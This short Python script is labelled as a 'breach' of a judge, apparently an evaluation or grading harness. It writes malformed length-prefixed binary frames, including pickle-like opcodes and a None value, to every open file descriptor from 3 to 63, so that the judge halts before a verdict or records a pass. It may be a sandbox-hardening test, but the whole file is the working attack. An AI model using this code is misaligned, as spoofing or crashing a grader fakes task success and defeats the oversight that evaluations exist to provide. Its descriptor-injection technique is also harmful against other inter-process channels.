# Breach: a value that is none stops the judge before its verdict, or passes.
import os

frames = (b"", b"x", b"P", b"c", b"RN", b"f\3\0\0\0abc", b"D\3\0\0\0abc", b"S\1\0\0\0l\0\0\0\0", b"s\1\0\0\0\xff", b"NN")
for number, frame in enumerate(frames):
    for fd in range(3, 64):
        try:
            os.write(fd, len(frame).to_bytes(4, "little") + frame)
        except OSError:
            pass
